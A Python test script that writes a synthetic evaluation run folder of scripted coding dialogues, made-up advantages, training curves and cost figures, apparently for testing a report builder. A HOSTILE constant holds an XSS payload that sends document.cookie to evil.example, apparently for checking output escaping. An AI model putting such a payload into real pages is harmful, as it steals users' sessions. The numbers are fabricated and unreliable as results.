"""A whole run's folder from scripted dialogues. `python tests/report/build_run.py FOLDER` leaves one to look at."""

import json
import math
import random
import sys
from pathlib import Path

from dulcet.evaluation.build import build_table
from dulcet.evaluation.costs import Cost, write_costs
from dulcet.evaluation.table import write_table
from dulcet.jsonl import write_all, write_json
from dulcet.trajectory import Grade, Outcome, Trajectory, Turn

FAMILIES = {
    "shipping_fee": (
        "Hi! I need something for our web shop that works out what we charge for delivery. "
        "def shipping_fee(total, country):",
        "def shipping_fee(total, country):\n    if total >= {a}:\n        return 0\n"
        "    if country == 'DE':\n        return {b}\n    return {c}",
        [
            ("From which order total on is delivery free?", "Everything from {a} upwards goes out free of charge."),
            ("What does delivery within Germany cost?", "Inside Germany we take {b}."),
            ("And what do you charge for other countries?", "Abroad it is {c}, wherever it goes."),
        ],
    ),
    "visitor_group": (
        "We sort visitors of the museum into groups, could you write that? def visitor_group(age, member):",
        "def visitor_group(age, member):\n    if member:\n        return {a}\n"
        "    if age < {b}:\n        return 'child'\n    return 'adult' if age < {c} else 'senior'",
        [
            ("What is returned for members?", "Members are always {a}, whatever their age."),
            ("Up to which age is one a child?", "Anybody younger than {b}."),
            ("From which age is one a senior?", "That begins at {c}."),
        ],
    ),
    "overtime_pay": (
        "Please help me with the pay of our part-timers: def overtime_pay(hours, night):",
        "def overtime_pay(hours, night):\n    extra = max(0, hours - {a})\n"
        "    rate = {c} if night else {b}\n    return extra * rate",
        [
            ("After how many hours does overtime begin?", "Past {a} hours a week it counts as overtime."),
            ("What is the rate by day?", "{b} for each extra hour."),
            ("Is the rate at night different?", "Yes, at night it is {c}."),
        ],
    ),
}
ASKS = {
    "zero_shot": (0.66, 0.85),
    "single_turn": (0.0, 0.85),
    "rejection_fine_tuning": (0.72, 0.88),
    "multi_turn_dpo": (0.84, 0.9),
    "sweet_rl": (0.9, 0.93),
}
"""Method -> (chance to ask for a fact, chance to use it well)."""
HOSTILE = (
    '<script>fetch("https://evil.example/?"+document.cookie)</script><img src=x onerror=alert(1)>\u202e</pre></style>'
)


def tasks(count: int) -> list[dict]:
    made = []
    for i in range(count):
        draw = random.Random(i)
        family = list(FAMILIES)[i % 3]
        numbers = {"a": draw.randrange(20, 90), "b": draw.randrange(3, 18), "c": draw.randrange(19, 70)}
        prompt, code, _ = FAMILIES[family]
        calls = {f"Test {n}": f"{family}({10 * n}, {n % 2 == 0})" for n in range(1, 11)}
        made.append(
            {
                "id": f"{family}-{i:04d}",
                "problem_description": prompt,
                "ground_truth": code.format(**numbers),
                "test_cases": calls,
                "meta": {"family": family, "numbers": numbers},
            }
        )
    return made


def play(task: dict, method: str, hostile: bool) -> tuple[Trajectory, list[float]]:
    """One scripted episode and made-up advantages: a good question is worth something, a guess costs."""
    draw = random.Random(f"{task['id']} {method}")
    asks, uses = ASKS[method]
    family, numbers = task["meta"]["family"], task["meta"]["numbers"]
    turns, advantages, known = [], [], dict.fromkeys(numbers, 0)
    for key, (question, reply) in zip(numbers, FAMILIES[family][2], strict=True):
        if draw.random() < asks:
            thought = f"I do not know {key} yet.\nOUTPUT: " if method == "sweet_rl" else ""
            leaks = int(draw.random() < 0.03)
            words = "I would rather not paste code here." if leaks else reply.format(**numbers)
            turns.append(Turn(raw=thought + question, content=question, reply=words, tokens=14, leaks=leaks))
            advantages.append(draw.gauss(0.35, 0.2))
            known[key] = numbers[key] if draw.random() < uses else 10
        elif asks and draw.random() < 0.25:
            turns.append(Turn(raw="Anything else?", content="Anything else?", reply="I don't know.", tokens=5))
            advantages.append(draw.gauss(-0.25, 0.15))
    code = FAMILIES[family][1].format(**{key: value or 10 for key, value in known.items()})
    if hostile:
        code += "\n# " + HOSTILE
    right = sum(known[key] == numbers[key] for key in numbers)
    turns.append(
        Turn(raw=f"I WANT TO ANSWER:\n{code}", content=f"I WANT TO ANSWER:\n{code}", tokens=12 + len(code) // 4)
    )
    advantages.append(draw.gauss(0.5 * (right - 2), 0.1))
    passed = (0.1, 0.4, 0.7, 1.0)[right]
    failed = draw.random() < 0.01
    return (
        Trajectory(
            task_id=task["id"],
            seed=7,
            prompt=task["problem_description"],
            turns=tuple(turns),
            answer=None if failed else code,
            outcome=Outcome.SIMULATOR_FAILED if failed else Outcome.ANSWERED,
            grade=None
            if failed
            else Grade(tests_passed=passed, success=right == 3, outcome="passed" if right == 3 else "wrong"),
            error="no answer from the server" if failed else None,
            agent={
                "kind": "direct",
                "model": {"kind": "local", "name": f"house-{method}"},
                "sampling": {"temperature": 1.0},
            },
            human={"kind": "scripted", "name": "scripted", "version": 1},
        ),
        advantages,
    )


def build(folder: Path, *, count: int = 120, hostile: bool = False) -> Path:
    """Write every file of docs/results_format.md."""
    made = tasks(count)
    for split in ("train", "validation", "test"):
        path = folder / "tasks" / f"{split}.jsonl"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("".join(json.dumps(task) + "\n" for task in made))
    config = {"preset": "demo", "seed": 7, "model": "house", "human": {"kind": "scripted"}, "beta": 0.1}
    write_json(folder / "config.json", config)
    episodes = {}
    for method in ASKS:
        played = [play(task, method, hostile) for task in made]
        episodes[method] = [trajectory for trajectory, _ in played]
        write_all(folder / "evaluate" / f"{method}.jsonl", episodes[method])
        lines = [
            {"task_id": one.task_id, "episode": 0, "advantages": [round(a, 4) for a in each]} for one, each in played
        ]
        path = folder / "advantages" / f"{method}.jsonl"
        path.parent.mkdir(exist_ok=True)
        path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    agent = {"kind": "local", "name": "house", "version": 1}
    write_table(folder / "table.json", build_table(episodes, seed=7, config=config, agent=agent))
    for stage in ("rejection_fine_tuning", "multi_turn_dpo", "sweet_rl/critic", "sweet_rl/policy"):
        draw = random.Random(stage)
        path = folder / "train" / stage / "metrics.jsonl"
        path.parent.mkdir(parents=True)
        with path.open("w") as file:
            for step in range(1, 121):
                line = {"step": step, "loss": 0.25 + 0.45 * math.exp(-step / 40) + draw.gauss(0, 0.04)}
                if stage != "rejection_fine_tuning":
                    line["accuracy"] = min(1.0, 0.5 + 0.3 * (1 - math.exp(-step / 40)) + draw.gauss(0, 0.06))
                    line["margin"] = step / 60 + draw.gauss(0, 0.2)
                file.write(json.dumps(line) + "\n")
    points = [
        {"n": n, "success": s, "success_interval": [s - 0.08, s + 0.08], "tests_passed": s + 0.2}
        for n, s in ((1, 0.18), (2, 0.27), (4, 0.35), (8, 0.41), (16, 0.44))
    ]
    curve = {"points": points, "critic": {"kind": "sweet", "name": "house-critic"}}
    write_json(folder / "best_of_n/sweet_rl.json", curve)
    measured = {"value": 0.42, "interval": [0.31, 0.53], "count": 90, "tasks": 60}
    quality = {"held_out_accuracy": 0.8125, "held_out_pairs": 240, "held_out_loss": 0.4312}
    quality |= {"quality": {"spearman": measured, "calibration": {"scaled": {"ece": 0.07}}}}
    write_json(folder / "critic/sweet_rl.json", quality)
    spent = Cost(
        episodes=480, candidates=25600, tokens_written=31000, tokens_trained=5e5, wall_seconds=95, cpu_seconds=90
    )
    write_costs(folder / "costs.json", {"zero_shot": Cost(), "sweet_rl": spent})
    write_json(folder / "machine.json", {"processor": "Some CPU", "cores": 2, "accelerator": None, "python": "3.12.1"})
    (folder / "command.txt").write_text("dulcet reproduce --preset demo --seed 7 --out runs/demo\n")
    return folder


if __name__ == "__main__":
    build(Path(sys.argv[1]))
